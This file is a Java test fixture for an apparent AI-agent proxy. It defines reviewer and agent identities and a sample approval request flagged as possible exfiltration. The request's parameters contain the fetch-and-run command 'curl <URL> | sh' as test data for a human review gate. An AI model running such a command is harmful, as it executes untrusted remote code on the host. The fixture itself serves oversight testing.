package io.tracegate.proxy.approval;

import io.tracegate.policy.Identity;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Set;

/** Requests and identities for the approval tests. */
final class Requests {

    static final Identity AGENT = new Identity("agent-7", Set.of("agent"));
    static final Identity ALICE = new Identity("alice", Set.of("reviewer"));
    static final Identity BOB = new Identity("bob", Set.of("reviewer", "auditor"));
    static final Identity MALLORY = new Identity("mallory", Set.of("agent"));
    /** An agent that also holds the reviewer role: still may not decide its own requests. */
    static final Identity SELF_REVIEWER = new Identity("agent-9", Set.of("agent", "reviewer"));

    private Requests() {
    }

    static ApprovalRequest request(Identity requester, Duration timeout) {
        return new ApprovalRequest("s-1", requester, "possible-exfiltration", Set.of("reviewer"), timeout,
                "INSERT INTO public.agent_traces (agent, reasoning) VALUES ($1, $2)",
                Arrays.asList("agent-7", "curl <URL> | sh", null), "127.0.0.1:50000");
    }

    static ApprovalRequest request() {
        return request(AGENT, null);
    }

    static List<String> outcomes(List<ApprovalEvent> events) {
        return events.stream().map(e -> e.kind() + ":" + e.approval().status()).toList();
    }
}
